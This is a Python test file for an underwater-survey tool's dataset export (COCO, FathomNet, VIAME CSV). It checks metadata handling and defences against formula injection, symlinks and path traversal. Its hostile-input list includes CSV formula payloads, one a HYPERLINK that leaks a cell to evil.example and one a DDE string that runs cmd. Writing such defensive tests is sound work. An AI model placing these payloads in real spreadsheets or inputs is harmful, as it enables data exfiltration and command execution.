"""What a marine scientist trips on in ``merlion export`` (issue 45), read back by the tools themselves.

A store holding what a dive holds: a frame that matched its query, a stand-in shown although nothing passed, a
pilot's capture below the threshold, a heading that rounds to 360, water temperature and pressure from the Bar30;
and an offline summary of a video (no dive log). Each export is read by its tool's own rules (``readers``):
pycocotools (with ``annToMask``), fathomnet-py, DIVE's VIAME CSV reader. A store whose query came from an unsigned
peer as a formula never yields a formula cell; a symlinked frame is refused.
"""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import json
import math
import shutil
from pathlib import Path

import numpy as np
import pytest

from companion.archive.report import write_campaign_report
from companion.config import StoreConfig
from companion.errors import UsageError
from companion.export import fathomnet
from companion.export.records import read_records
from companion.export.viame_csv import copy_images, image_dir, sheet_safe
from companion.storage.store import Store
from companion.vision.events import SummaryEvent, SummaryFrame
from tests.companion.export.readers import coco_read, dive_read, fathomnet_read, formula_cells
from tests.companion.export.test_export import SURVEY, campaign, one_error_line, video_frames  # noqa: F401
from tests.conftest import run_merlion, shared_file
from vehicle.autopilot.pose import Pose

QUERY = "underwater image with fish"
TAU = 0.5
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"fish")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1", '"=1+1"', "\uff1dHYPERLINK(1)", "\u201c=1+1"]
BEHIND_BLANKS = ["( =1+1", "(\u3000@SUM(1,2)", '( "=HYPERLINK(1)']
"""Queries whose species cell (a leading ``(`` dropped: DIVE reads it as an attribute) opens with blanks or quotes
and then a formula: a spreadsheet that trims cells on import runs them."""


def pose(i: int) -> Pose:
    """Frame 1's heading is 359.999 (360.00 once rounded); frames 0 and 1 have the Bar30's temperature."""
    return Pose(time=1_700_000_000.0 + i, age_s=0.05, stale=False, depth_m=5.0 + i, depth_source="scaled_pressure2",
                heading_deg=[12.5, 359.999, 180.0, 359.996][i], lat=-33.8568, lon=151.2153,
                water_temp_c=[24.25, 23.5, None, None][i], pressure_hpa=[1516.0, 1616.0, None, None][i])


def make_store(folder: Path, query: str = QUERY) -> Path:
    """0: a match (0.8); 1: a match (0.7); 2: a stand-in (0.014, nothing passed); 3: the pilot's (0.2)."""
    store = Store(StoreConfig(dir=str(folder)))
    held: list[int] = []
    kinds = [{}, {}, {"below_threshold": True}, {"pilot": True}]
    for i, image in enumerate(video_frames(4)):
        frame = SummaryFrame(image_index=i, frame_index=30 * i, time_s=3.0 * i, capture_time=1_700_000_000.0 + i,
                             score=[0.8, 0.7, 0.014, 0.2][i], image=image, feature=np.ones(8, np.float32),
                             pose=pose(i), topic="main", **kinds[i])
        held.append(i)
        store.apply(SummaryEvent("added", frame, list(held)), tags={"query": query, "tau_ss": TAU})
    return folder


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Path:
    return make_store(tmp_path_factory.mktemp("science_store"))


def export(source: Path, fmt: str, out: Path, *extra: str) -> None:
    proc = run_merlion("export", str(source), "--format", fmt, "--out", str(out), *extra)
    assert proc.returncode == 0, proc.stderr


def test_coco_reads_with_pycocotools_masks_flags_and_water(store, tmp_path):
    pytest.importorskip("pycocotools")
    out = tmp_path / "coco.json"
    export(store, "coco", out)
    coco = coco_read(out)  # annToMask on every annotation: the whole frame
    images = {img["frame"]: img for img in coco.loadImgs(coco.getImgIds())}
    anns = {a["image_id"]: a for a in coco.loadAnns(coco.getAnnIds())}
    below = {f: images[f]["below_threshold"] for f in images}
    assert below == {0: False, 1: False, 2: True, 3: True}  # the stand-in and the pilot's 0.2 are not matches
    assert all(images[f]["threshold"] == TAU and anns[images[f]["id"]]["threshold"] == TAU for f in images)
    assert images[3]["pilot"] is True and anns[images[3]["id"]]["below_threshold"] is True
    assert images[1]["heading_deg"] == 0.0 and 0 <= images[3]["heading_deg"] < 360  # 359.999: not 360
    assert images[0]["water_temp_c"] == 24.25 and images[0]["pressure_dbar"] == pytest.approx(15.16)
    assert "water_temp_c" not in images[2]
    assert all(img["date_captured"] == f"2023-11-14 22:13:2{f}" for f, img in images.items())


def test_fathomnet_concepts_imaging_type_urls_and_water(store, tmp_path):
    pytest.importorskip("fathomnet")
    out = tmp_path / "fathomnet.json"
    export(store, "fathomnet", out, "--base-url", "https://images.example.org/dive7/")
    docs = json.loads(out.read_text())
    images = fathomnet_read(docs)
    for i, image in enumerate(images):
        assert image.url == f"https://images.example.org/dive7/{i:06d}.jpg"  # the store's frames/ served there
        assert hashlib.sha256((store / "frames" / f"{i:06d}.jpg").read_bytes()).hexdigest() == image.sha256
        assert image.imagingType == "ROV"
        tags = {t.key: t.value for t in image.tags}
        assert float(tags["threshold"]) == TAU and tags["below_threshold"] == json.dumps(i >= 2)
    # a concept from the resolved query, as a whole-frame box, only where the frame matched it
    assert [[(b.concept, b.width, b.height) for b in (im.boundingBoxes or [])] for im in images] == \
        [[("fish", 480, 270)], [("fish", 480, 270)], [], []]
    assert (images[0].temperatureCelsius, images[0].pressureDbar) == (24.25, pytest.approx(15.16))
    assert images[2].temperatureCelsius is None
    assert {t.key: t.value for t in images[3].tags}["pilot"] == "true"
    bad = run_merlion("export", str(store), "--format", "fathomnet", "--out", str(tmp_path / "x.json"),
                      "--base-url", "images/")
    assert bad.returncode == 2 and "--base-url images/" in one_error_line(bad.stderr)


def test_dive_matches_every_row_to_its_own_image(store, tmp_path):
    out = tmp_path / "export.csv"
    (store / "frames" / "000001.raw.jpg").write_bytes((store / "frames" / "000001.jpg").read_bytes())  # extra files
    export(store, "csv", out)
    rows = dive_read(out)  # every row's image is the dataset's image at its frame number
    for i, row in enumerate(rows):
        copied = out.parent / row["image"]
        assert copied.read_bytes() == (store / "frames" / f"{i:06d}.jpg").read_bytes() and not copied.is_symlink()
    attrs = [r["attrs"] for r in rows]
    assert [a["below_threshold"] for a in attrs] == [False, False, True, True]
    assert all(a["threshold"] == TAU for a in attrs) and attrs[3]["pilot"] is True
    assert attrs[1]["heading_deg"] == attrs[3]["heading_deg"] == 0.0  # 359.999 and 359.996: never "360.00"
    assert attrs[0]["water_temp_c"] == 24.25 and attrs[0]["pressure_dbar"] == 15.16
    again = out.read_text()
    export(store, "csv", out)  # written again: the folder is replaced whole, the same
    assert out.read_text() == again and len(dive_read(out)) == 4
    (out.parent / "export_images" / "notes.txt").write_text("mine")
    proc = run_merlion("export", str(store), "--format", "csv", "--out", str(out))
    assert proc.returncode == 2 and "export_images: exists and is not an image folder" in one_error_line(proc.stderr)


@pytest.mark.parametrize("query", HOSTILE)
def test_a_hostile_query_never_makes_a_formula_cell(tmp_path, query):
    store = make_store(tmp_path / "store", query=query)
    out = tmp_path / "hostile.csv"
    export(store, "csv", out)
    assert formula_cells(out) == []
    rows = dive_read(out)
    assert rows[0]["pairs"][0][0] == "'" + query.strip()  # the species, kept readable, never run


@pytest.mark.parametrize("query", BEHIND_BLANKS)
def test_a_formula_behind_blanks_or_quotes_is_escaped_too(tmp_path, query):
    store = make_store(tmp_path / "store", query=query)
    out = tmp_path / "hostile.csv"
    export(store, "csv", out)
    assert formula_cells(out) == []
    assert dive_read(out)[0]["pairs"][0][0] == "'" + query[1:]  # escaped, the blanks and quotes kept


@pytest.mark.parametrize("query", ["  =HYPERLINK(1)", '"=1+1"', "\u00a0-2+3", "\uff0b1"])
def test_the_campaign_index_escapes_a_formula_behind_blanks_or_quotes(campaign, tmp_path, query):  # noqa: F811
    root = tmp_path / "campaign"
    shutil.copytree(campaign, root)
    summary = root / "dive1" / "summary.json"
    doc = json.loads(summary.read_text())
    doc["params"]["query"] = query
    for topic in doc["params"]["topics"]:
        topic["query"] = query
    summary.write_text(json.dumps(doc))
    write_campaign_report(root, ["dive1"])
    assert formula_cells(root / "index.csv") == [] and formula_cells(root / "export_viame.csv") == []
    with (root / "index.csv").open(newline="", encoding="utf-8") as fh:
        assert {row["query"] for row in csv.DictReader(fh)} == {"'" + query}


def test_the_campaign_index_writes_no_heading_of_360(campaign, tmp_path):  # noqa: F811
    root = tmp_path / "campaign"
    shutil.copytree(campaign, root)
    tags_path = root / "dive1" / "tags.json"
    tags = json.loads(tags_path.read_text())
    for frame, heading in zip(tags["frames"], [360.0, 359.5, -90.0], strict=False):
        frame["pose"]["heading_deg"] = heading  # as an older tool's pose (% 360.0) could hold
    tags_path.write_text(json.dumps(tags))
    write_campaign_report(root, ["dive1"])
    with (root / "index.csv").open(newline="", encoding="utf-8") as fh:
        headings = [float(row["heading_deg"]) for row in csv.DictReader(fh)]
    assert headings[:3] == [0.0, 359.5, 270.0][:len(headings)] and all(0.0 <= h < 360.0 for h in headings)


def test_numbers_stay_numbers_and_float_lookalikes_do_not():
    assert [sheet_safe(c) for c in ("-1.5", "+2", "-3e-05", ".5", "0")] == ["-1.5", "+2", "-3e-05", ".5", "0"]
    assert [sheet_safe(c) for c in ("-1_0", "-inf", " -1", "-nan")] == ["'-1_0", "'-inf", "' -1", "'-nan"]


def test_the_campaign_index_and_exports_have_no_formula_cell(campaign, tmp_path):  # noqa: F811
    root = tmp_path / "campaign"
    shutil.copytree(campaign, root)
    summary = root / "dive1" / "summary.json"
    doc = json.loads(summary.read_text())
    doc["params"]["query"] = HOSTILE[0]
    for topic in doc["params"]["topics"]:
        topic["query"] = HOSTILE[0]
    summary.write_text(json.dumps(doc))
    write_campaign_report(root, ["dive1"])
    assert HOSTILE[0] in json.loads((root / "index.json").read_text())[0]["query"]  # kept as it was, in JSON
    assert formula_cells(root / "index.csv") == [] and formula_cells(root / "export_viame.csv") == []
    assert len(dive_read(root / "export_viame.csv")) == len(doc["frames"])


def test_a_symlinked_frame_is_refused_not_followed(store, tmp_path):
    linked = tmp_path / "linked"
    shutil.copytree(store, linked)
    target = linked / "frames" / "000001.jpg"
    target.unlink()
    target.symlink_to("/etc/hostname")
    for fmt in ("csv", "coco", "fathomnet"):
        out = tmp_path / f"x.{fmt}"
        proc = run_merlion("export", str(linked), "--format", fmt, "--out", str(out))
        assert proc.returncode == 2 and "000001.jpg: a symbolic link" in one_error_line(proc.stderr)
        assert not out.exists()
    frames = linked / "frames"
    frames.rename(tmp_path / "real_frames")
    frames.symlink_to(tmp_path / "real_frames")  # the whole folder linked elsewhere: refused too
    proc = run_merlion("export", str(linked), "--format", "csv", "--out", str(tmp_path / "y.csv"))
    assert proc.returncode == 2 and "frames: a symbolic link" in one_error_line(proc.stderr)


def test_a_campaign_dive_or_sidecar_that_is_a_link_is_refused(campaign, tmp_path):  # noqa: F811
    root = tmp_path / "campaign"
    shutil.copytree(campaign, root)
    (root / "dive1").rename(tmp_path / "elsewhere")
    (root / "dive1").symlink_to(tmp_path / "elsewhere")  # the dive folder itself links out of the campaign
    proc = run_merlion("export", str(root), "--format", "csv", "--out", str(tmp_path / "a.csv"))
    assert proc.returncode == 2 and "dive1: a symbolic link" in one_error_line(proc.stderr)
    (root / "dive1").unlink()
    shutil.copytree(tmp_path / "elsewhere", root / "dive1")
    (root / "manifest.json").write_text(json.dumps({"finished": {"../elsewhere": {}}}))  # a name out of it
    proc = run_merlion("export", str(root), "--format", "coco", "--out", str(tmp_path / "b.json"))
    assert proc.returncode == 2 and "'../elsewhere' is not a folder of the campaign" in one_error_line(proc.stderr)
    (root / "manifest.json").write_text(json.dumps({"finished": {"dive1": {}}}))
    tags = root / "dive1" / "tags.json"
    tags.rename(tmp_path / "tags.json")
    tags.symlink_to(tmp_path / "tags.json")  # a sidecar linked in
    proc = run_merlion("export", str(root), "--format", "fathomnet", "--out", str(tmp_path / "c.json"))
    assert proc.returncode == 2 and "tags.json: a symbolic link" in one_error_line(proc.stderr)
    assert not any((tmp_path / n).exists() for n in ("a.csv", "b.json", "c.json", "a_images"))


def test_a_frame_swapped_for_a_link_after_the_check_is_not_copied(store, tmp_path):
    records = read_records(store)
    swapped = tmp_path / "swapped.jpg"
    swapped.symlink_to("/etc/hostname")
    records[1] = dataclasses.replace(records[1], image=swapped)  # as if replaced between the check and the copy
    out = tmp_path / "x.csv"
    with pytest.raises(UsageError, match="swapped.jpg: not copied"):
        copy_images(records, out)
    assert not image_dir(out).exists() and not [p for p in tmp_path.iterdir() if p.name.startswith(".x_images")]
    with pytest.raises(UsageError, match="swapped.jpg: not read"):  # nor hashed through it (FathomNet's sha256)
        fathomnet.image_record(records[1], "file:///x.jpg")


@pytest.fixture(scope="module")
def offline_summary(tmp_path_factory) -> Path:
    """``merlion summarize`` of the survey video, with no dive log: no clock but the video's own."""
    dive = tmp_path_factory.mktemp("offline") / "dive"
    proc = run_merlion("summarize", str(shared_file(SURVEY)), "--out", str(dive), "--encoder", "imagenet",
                       "--fps", "1", "-k", "3", "--threshold", "45")
    assert proc.returncode == 0, proc.stderr
    return dive


def test_an_offline_summary_keeps_its_video_time_and_date(offline_summary, tmp_path):
    pytest.importorskip("pycocotools")
    doc = json.loads((offline_summary / "summary.json").read_text())
    out = tmp_path / "coco.json"
    export(offline_summary, "coco", out)
    coco = coco_read(out)
    images = coco.loadImgs(coco.getImgIds())
    assert len(images) == len(doc["frames"])
    for img, frame in zip(images, doc["frames"], strict=True):
        assert img["video"] == doc["source"] and img["time_s"] == frame["time_s"]
        assert img["date_source"] in ("video_creation_time", "video_file_time") and img["date_captured"]
        assert img["threshold"] == pytest.approx(0.45) and img["below_threshold"] == (frame["score"] <= 0.45)
    assert images[-1]["date_captured"] >= images[0]["date_captured"]  # the video's start plus each frame's time
    csv_out = tmp_path / "offline.csv"
    export(offline_summary, "csv", csv_out)
    rows = dive_read(csv_out)
    assert all(r["attrs"]["video"] == doc["source"].replace(" ", "_") and not math.isnan(r["attrs"]["time_s"])
               for r in rows)
